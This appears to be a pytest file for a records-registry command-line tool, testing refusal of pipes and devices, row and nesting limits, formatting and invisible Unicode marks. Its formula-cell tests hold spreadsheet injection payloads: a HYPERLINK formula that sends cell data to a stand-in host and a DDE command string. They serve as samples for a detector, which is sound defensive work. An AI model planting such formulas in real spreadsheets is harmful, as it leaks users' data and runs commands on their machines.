"""Issue 28, items 5 (import side), 9, 10, 11, 12 and 15: bounded inputs, located messages, visible names.

Each test asserts the message and that nothing outside the records folder changed (and, where a command
refuses, nothing inside it either).
"""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from registry.curate.table import MAX_TABLE_ROWS
from registry.textsafe import is_formula
from tests.conftest import FIXTURE_SOURCE as SOURCE
from tests.conftest import FIXTURE_TABLE as TABLE
from tests.conftest import ROOT


def tree(root: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "other"
            for p in sorted(root.rglob("*")) if not p.is_symlink()}


def imported(cli, table: Path, records: Path, *extra: str):  # type: ignore[no-untyped-def]
    return cli("import", table, "--source", SOURCE, "--records", records, *extra)


# -- item 9: a FIFO or a device is never read ---------------------------------------------------------


def test_import_from_a_fifo_is_refused_without_waiting(cli, demo: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    pipe = tmp_path / "table.csv"
    os.mkfifo(pipe)  # no writer: reading it would wait for ever
    before = tree(tmp_path)
    result = imported(cli, pipe, demo)
    assert result.exit_code == 1, result.output
    assert "this is a named pipe (FIFO), not a table file; it was not read" in result.output
    assert "unexpected" not in result.output and tree(tmp_path) == before


def test_import_from_a_device_is_refused(cli, demo: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    before = tree(tmp_path)
    result = imported(cli, Path("/dev/zero"), demo)
    assert result.exit_code == 1 and "this is a character device, not a table file" in result.output, result.output
    assert tree(tmp_path) == before


# -- item 10: rows are bounded --------------------------------------------------------------------------


def test_a_table_of_too_many_rows_is_refused_with_how_to_split_it(cli, demo: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    header, row = TABLE.read_text(encoding="utf-8").splitlines()[:2]
    big = tmp_path / "big.csv"
    big.write_text("\n".join([header] + [row] * (MAX_TABLE_ROWS + 1)) + "\n", encoding="utf-8")
    before = tree(tmp_path)
    result = imported(cli, big, demo, "--dry-run")
    assert result.exit_code == 1, result.output
    assert f"row {MAX_TABLE_ROWS + 2}" in result.output, "the first row past the limit is named"
    assert f"more than {MAX_TABLE_ROWS:,} rows" in result.output and "split it into files" in result.output
    assert tree(tmp_path) == before


def test_a_table_at_the_row_limit_is_read(tmp_path: Path) -> None:
    from registry.curate.table import read_table

    header, row = TABLE.read_text(encoding="utf-8").splitlines()[:2]
    table = tmp_path / "limit.csv"
    table.write_text("\n".join([header] + [row] * MAX_TABLE_ROWS) + "\n\n\n", encoding="utf-8")
    assert len(read_table(table).rows) == MAX_TABLE_ROWS


# -- item 5, import side: a formula cell is named ---------------------------------------------------------


@pytest.mark.parametrize(("cell", "formula"), [
    ('=HYPERLINK("http://evil.example/?"&A2,"open")', True), ("+1+cmd|' /C calc'!A0", True), ("-2+3", True),
    ("@SUM(A1:A9)", True), ("-0.021", False), ("+3", False), ("-1,843.5", False), ("1e-3", False), ("-", False),
    ("-12%", False), ("NT 500M", False),
])
def test_what_a_spreadsheet_takes_for_a_formula(cell: str, formula: bool) -> None:
    assert is_formula(cell) is formula


def test_import_warns_about_a_formula_cell(cli, demo: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lines = TABLE.read_text(encoding="utf-8").splitlines()
    evil = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    lines[1] = lines[1].replace("Table 1", '"' + evil.replace('"', '""') + '"', 1)
    table = tmp_path / "formula.csv"
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = tree(tmp_path)
    result = imported(cli, table, demo, "--dry-run")
    assert result.exit_code == 0, result.output
    assert "warning formula-cell: formula.csv row 2, column 'table'" in result.output
    assert "starts with '=', which a spreadsheet runs as a formula" in result.output
    assert tree(tmp_path) == before


# -- item 11: --set values nest a bounded depth --------------------------------------------------------------


@pytest.mark.parametrize("command", ["new", "correct"])
def test_a_deeply_nested_set_value_is_refused(cli, records_dir: Path, tmp_path: Path, command: str) -> None:  # type: ignore[no-untyped-def]
    deep = "[" * 3000 + "]" * 3000
    before = tree(tmp_path)
    if command == "new":
        result = cli("new", "family", "--set", f"name={deep}", "--batch", "x", "--date", "20261201", "--slug", "deep",
                     "--records", records_dir)
    else:
        result_id = next((records_dir / "result").glob("*.yaml")).stem
        result = cli("correct", result_id, "--set", f"scope_note={deep}", "--reason", "r", "--curator", "c",
                     "--records", records_dir)
    assert result.exit_code != 0, result.output
    assert "nests lists or mappings more than 32 levels deep" in result.output, result.output
    assert "unexpected" not in result.output and "RecursionError" not in result.output
    assert tree(tmp_path) == before


# -- item 12: fmt on files validate accepts -------------------------------------------------------------------


@pytest.mark.parametrize("variant", ["bom-comment", "tab-after-claim", "tab-then-comment", "bom"])
def test_fmt_formats_what_validate_accepts(cli, records_dir: Path, tmp_path: Path, variant: str) -> None:  # type: ignore[no-untyped-def]
    path = next(p for p in sorted((records_dir / "result").glob("*.yaml")) if "- claim:" in p.read_text())
    text = path.read_text(encoding="utf-8")
    changed = {"bom-comment": "\ufeff# a comment first\n" + text, "bom": "\ufeff" + text,
               "tab-after-claim": text.replace("- claim: ", "- claim:\t", 1),
               "tab-then-comment": text.replace("- claim: ", "- claim:\t# why\n    ", 1)}[variant]
    assert changed != text
    path.write_text(changed, encoding="utf-8")
    assert cli("validate", "--records", records_dir).exit_code == 0
    before = {k: v for k, v in tree(tmp_path).items() if not k.startswith(str(records_dir))}
    result = cli("fmt", "--records", records_dir)
    assert result.exit_code == 0, result.output
    assert "unexpected" not in result.output and f"reformatted {path}" in result.output
    formatted = path.read_text(encoding="utf-8")
    assert not formatted.startswith("\ufeff") and "\t" not in formatted
    assert ("# a comment first" in formatted) == (variant == "bom-comment")
    assert ("# why" in formatted) == (variant == "tab-then-comment")
    assert cli("validate", "--records", records_dir).exit_code == 0
    assert {k: v for k, v in tree(tmp_path).items() if not k.startswith(str(records_dir))} == before


# -- item 15: invisible marks in names ------------------------------------------------------------------------


@pytest.mark.parametrize("mark", ["\u200b", "\u200d", "\u200e", "\u200f", "\u061c", "\ufeff", "\u00ad", "\u034f",
                                  "\U000e0041", "\u2028", "\u2029"])
def test_an_invisible_mark_in_a_name_is_named(cli, records_dir: Path, tmp_path: Path, mark: str) -> None:  # type: ignore[no-untyped-def]
    import unicodedata

    path = next((records_dir / "family").glob("*.yaml"))
    text = path.read_text(encoding="utf-8")
    name_line = next(line for line in text.splitlines() if line.startswith("name: "))
    escaped = mark.encode("unicode_escape").decode().replace("\\x", "\\u00")  # as YAML writes it in quotes
    path.write_text(text.replace(name_line, f'name: "{name_line[6:3 + len(name_line) // 2]}{escaped}'
                                             f'{name_line[3 + len(name_line) // 2:]}"'), encoding="utf-8")
    before = tree(tmp_path)
    result = cli("validate", "--records", records_dir)
    assert result.exit_code == 1, result.output
    assert "control-character" in result.output and unicodedata.name(mark) in result.output, result.output
    assert tree(tmp_path) == before


def test_the_bundled_records_hold_no_invisible_mark() -> None:
    from registry.textsafe import UNSAFE

    for path in sorted((ROOT / "records").rglob("*.yaml")):
        assert UNSAFE.search(path.read_text(encoding="utf-8")) is None, path


def test_import_does_not_share_a_family_whose_name_only_looks_the_same(cli, demo: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lines = TABLE.read_text(encoding="utf-8").splitlines()
    table = tmp_path / "lookalike.csv"
    table.write_text("\n".join([lines[0], lines[1].replace("Nucleotide Transformer", "Nucleotide\u200b Transformer",
                                                           1)]) + "\n", encoding="utf-8")
    result = imported(cli, table, demo, "--dry-run")
    assert result.exit_code == 1, result.output
    assert "U+200B ZERO WIDTH SPACE" in result.output, result.output


def test_fmt_of_a_fifo_is_refused_unread(cli, records_dir: Path) -> None:  # type: ignore[no-untyped-def]
    pipe = records_dir / "family" / "pipe.yaml"
    os.mkfifo(pipe)
    before = tree(records_dir)
    result = cli("fmt", pipe, "--records", records_dir)
    assert result.exit_code == 1, result.output
    assert "is a named pipe (FIFO), not a regular file or a folder; it was not read" in result.output
    assert tree(records_dir) == before
